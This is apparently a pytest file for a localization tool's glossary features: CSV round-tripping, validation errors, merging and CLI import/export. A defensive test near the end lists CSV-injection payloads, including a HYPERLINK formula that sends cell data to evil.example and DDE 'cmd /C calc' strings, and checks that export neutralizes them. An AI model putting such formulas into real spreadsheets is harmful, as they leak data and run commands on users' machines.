"""Termbase CSV import/export and the `painl10n glossary` commands."""

from __future__ import annotations

import csv
import dataclasses
import io
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from painl10n.errors import Painl10nError
from painl10n.terms.csvio import merge_termbases, read_csv, write_csv
from painl10n.terms.model import Termbase
from painl10n.terms.tbx import read_tbx

Run = Callable[..., subprocess.CompletedProcess[str]]

HEADER = "concept,subject,concept_note,language,term,status,type,part_of_speech,term_note"
CSV = f"""{HEADER},context,except_context
migraine,condition,,en,migraine,preferred,fullForm,noun,,,
migraine,condition,,es,migraña,preferred,fullForm,noun,,,
migraine,condition,,es,jaqueca,deprecated,fullForm,noun,colloquial,,
nsaid,drug class,,en,NSAIDs,preferred,acronym,noun,,,
nsaid,drug class,,es,AINE,preferred,acronym,noun,,,
clinic,brand,do-not-translate,en,Mindful Infusions,preferred,fullForm,properNoun,,,
"""


def test_csv_round_trip() -> None:
    base = read_csv(CSV, shown="terms.csv")
    assert [c.id for c in base.concepts] == ["migraine", "nsaid", "clinic"]
    assert base.concepts[0].forbidden_in("es")[0].note == "colloquial"
    assert base.concepts[2].do_not_translate
    assert write_csv(base) == CSV


@pytest.mark.parametrize(
    ("old", "new", "message", "line"),
    [
        ("es,jaqueca,deprecated", "es,jaqueca,forbidden", "invalid status 'forbidden'", 4),
        ("en,NSAIDs,preferred,acronym", "en,NSAIDs,preferred,initialism", "invalid type", 5),
        ("nsaid,drug class,,es,AINE", "nsaid,drug class,,../x,AINE", "malformed language", 6),
        (
            "clinic,brand,do-not-translate,en,Mindful Infusions",
            "clinic,brand,,en,",
            "without a term",
            7,
        ),
        ("concept,subject", "id,subject", "lacks column 'concept'", 1),
    ],
)
def test_bad_csv_names_line(old: str, new: str, message: str, line: int) -> None:
    with pytest.raises(Painl10nError, match=message) as caught:
        read_csv(CSV.replace(old, new), shown="terms.csv")
    assert (caught.value.path, caught.value.line) == ("terms.csv", line)


def test_merge_replaces_same_id_and_appends_new() -> None:
    base = read_csv(CSV, shown="a.csv")
    update = read_csv("concept,language,term\nnsaid,en,NSAID\nopioid,en,opioid\n", shown="b.csv")
    merged, replaced, added = merge_termbases(base, update)
    assert (replaced, added) == (1, 1)
    assert [c.id for c in merged.concepts] == ["migraine", "nsaid", "clinic", "opioid"]
    assert [t.text for t in merged.concepts[1].terms] == ["NSAID"]


def test_glossary_commands(tmp_path: Path, run_cli: Run) -> None:
    (tmp_path / "painl10n.toml").write_text('languages = ["es"]\n', "utf-8")
    sheet = tmp_path / "terms.csv"
    sheet.write_text(CSV, "utf-8")
    imported = run_cli("glossary", "import", str(sheet), "-p", str(tmp_path))
    assert imported.returncode == 0, imported.stderr
    assert "3 concepts added, 0 replaced" in imported.stdout
    tbx = tmp_path / "locales" / "glossary.tbx"
    assert [c.id for c in read_tbx(tbx).concepts] == ["migraine", "nsaid", "clinic"]
    exported = run_cli("glossary", "export", "--format", "csv", "-p", str(tmp_path))
    assert exported.returncode == 0 and exported.stdout == CSV
    again = run_cli("glossary", "export", "-f", "tbx", "-p", str(tmp_path))
    assert again.stdout == tbx.read_text("utf-8")
    listed = run_cli("glossary", "list", "-p", str(tmp_path), "-l", "es")
    assert listed.returncode == 0, listed.stderr
    assert listed.stdout.splitlines() == [
        "concept\ten\tes",
        "migraine\tmigraine\tmigraña (✗ jaqueca)",
        "nsaid\tNSAIDs\tAINE",
        "clinic [DNT]\tMindful Infusions\t",
    ]


def test_glossary_import_errors_are_one_line(tmp_path: Path, run_cli: Run) -> None:
    (tmp_path / "painl10n.toml").write_text('languages = ["es"]\n', "utf-8")
    sheet = tmp_path / "terms.csv"
    sheet.write_text(CSV.replace("deprecated", "forbidden"), "utf-8")
    result = run_cli("glossary", "import", str(sheet), "-p", str(tmp_path))
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and "terms.csv:4: invalid status" in result.stderr
    assert not (tmp_path / "locales" / "glossary.tbx").exists()
    bad_format = run_cli("glossary", "export", "-f", "xlsx", "-p", str(tmp_path))
    assert bad_format.returncode == 2 and "unknown format 'xlsx'" in bad_format.stderr


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''+twice",
]


def with_second_term(text: str) -> Termbase:
    """The CSV's termbase with its second term (and that term's note) set to ``text``."""
    base = read_csv(CSV, shown="terms.csv")
    first = base.concepts[0]
    term = dataclasses.replace(first.terms[1], text=text, note=text)
    concept = dataclasses.replace(first, terms=(first.terms[0], term, *first.terms[2:]))
    return dataclasses.replace(base, concepts=(concept, *base.concepts[1:]))


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_export_neutralizes_formulas_and_reads_back_losslessly(text: str) -> None:
    """OWASP's CSV injection: no exported cell starts as a formula a spreadsheet runs."""
    exported = write_csv(with_second_term(text))
    rows = list(csv.reader(io.StringIO(exported)))
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@", cell
    assert rows[2][4] == "'" + text and rows[2][8] == "'" + text
    again = read_csv(exported, shown="again.csv")
    assert again.concepts[0].terms[1].text == text
    assert write_csv(again) == exported


@pytest.mark.parametrize("text", ["'quoted term", "don't", "AINE", "x=y", "e-mail"])
def test_csv_cells_that_are_not_formulas_are_left_alone(text: str) -> None:
    """The near misses: a quote, an equals sign or a dash inside a term is text."""
    exported = write_csv(with_second_term(text))
    assert list(csv.reader(io.StringIO(exported)))[2][4] == text
    assert read_csv(exported, shown="again.csv").concepts[0].terms[1].text == text
